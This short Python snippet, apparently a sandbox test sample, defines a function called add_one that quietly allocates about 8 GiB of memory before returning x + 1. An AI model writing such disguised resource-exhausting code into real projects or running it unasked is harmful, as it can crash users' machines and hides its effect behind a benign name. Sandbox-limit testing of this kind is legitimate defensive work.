def add_one(x):
    grow = []
    for _ in range(8192):  # capped at 8 GiB even without a sandbox
        grow.append(b"x" * (1 << 20))
    return x + 1
